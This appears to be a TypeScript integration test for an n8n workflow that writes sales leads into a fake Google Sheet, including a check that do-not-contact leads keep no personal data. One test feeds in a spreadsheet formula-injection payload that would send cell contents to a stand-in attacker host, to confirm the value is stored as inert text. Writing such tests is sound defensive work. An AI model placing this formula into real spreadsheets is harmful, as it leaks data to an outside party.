/** The example for a Google sheet on a real n8n, with n8n's own node: what is in the sheet afterwards. */
import type { CredentialRef, WorkflowNode } from '../../scripts/host/rest.ts';
import { FakeGoogleSheets } from '../fakeServers/googleSheets/googleSheets.ts';
import { asVendor, sharedHost } from './support/host.ts';
import { LeadExample } from './support/leadExample.ts';
import { httpsLead } from './support/send.ts';
import { withCredential } from './support/workflows.ts';

let sheets: FakeGoogleSheets;
let credential: CredentialRef;
let example: LeadExample;

/** As a user sets the example up: credential and document. */
function setUp(node: WorkflowNode): WorkflowNode {
	if (node.type.endsWith('.googleSheets')) {
		const value = `https://docs.google.com/spreadsheets/d/${sheets.documentId}/edit#gid=0`;
		const documentId = { __rl: true, mode: 'url', value };
		return withCredential({ ...node, parameters: { ...node.parameters, documentId } }, credential);
	}
	return node;
}

beforeAll(async () => {
	const host = await sharedHost();
	sheets = await new FakeGoogleSheets().start(asVendor(host.outside, 'sheets.googleapis.com'));
	// As n8n keeps it once somebody has signed in.
	credential = await host.rest.createCredential('googleSheetsOAuth2Api', 'Google', {
		...{ clientId: 'client', clientSecret: 'secret' },
		oauthTokenData: { access_token: sheets.accessToken, token_type: 'Bearer', refresh_token: 'r' },
	});
	example = await LeadExample.activate(host, 'leads-to-google-sheet.json', setUp);
});

afterAll(async () => {
	await sheets?.stop();
	await example?.remove();
});

/** The rows by the names of the columns. */
function rows(): Array<Record<string, string>> {
	const [names = [], ...lines] = sheets.rows;
	return lines.map((cells) => Object.fromEntries(names.map((name, at) => [name, cells[at] ?? ''])));
}

it('fills an empty sheet, with one row for each lead however often it comes', async () => {
	const formula = '=IMPORTXML("https://attacker.example?" & A2, "//a")';
	const lead = httpsLead('Fabrikam', { Description: formula });
	await example.succeed(lead, httpsLead('Tailspin', { LeadSource: 'SPZA', ActionCode: 'PLT' }));
	// Somebody adds a column, and notes in it.
	sheets.rows[0]!.push('mine');
	sheets.rows[2]![16] = 'called';
	await example.succeed(httpsLead('Tailspin', { LeadSource: 'SPZA', ActionCode: 'PLT' }), lead);
	await example.succeed(httpsLead('T', { Description: 'MSFT_TEST_636573304831318844' }));
	expect(rows()).toEqual([
		expect.objectContaining({
			lead: expect.stringMatching(/^[0-9a-f]{32}$/),
			created: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
			source: 'Azure Marketplace',
			stage: 'initialInterest',
			offer: 'Contoso Gateway',
			contact: 'yes',
			firstName: 'Kim',
			lastName: 'Sample',
			email: 'kim@fabrikam.example',
			// What begins like a formula stays a text, as a number in this form does.
			phone: '+14255550100',
			description: formula,
		}),
		expect.objectContaining({ source: 'AppSource', stage: 'active', mine: 'called' }),
	]);
});

it('keeps nothing of somebody who must not be contacted by which they could be', async () => {
	await example.succeed(
		httpsLead('Quiet', { LeadSource: 'SPZA', ActionCode: 'DNC', Description: 'Kim' }),
	);
	const [row] = rows().filter(({ company }) => company === 'Quiet');
	expect(row).toMatchObject({ contact: 'no', stage: 'doNotContact', offer: 'Contoso Gateway' });
	for (const name of ['firstName', 'lastName', 'email', 'phone', 'title', 'description']) {
		expect([name, row![name]]).toEqual([name, '']);
	}
});
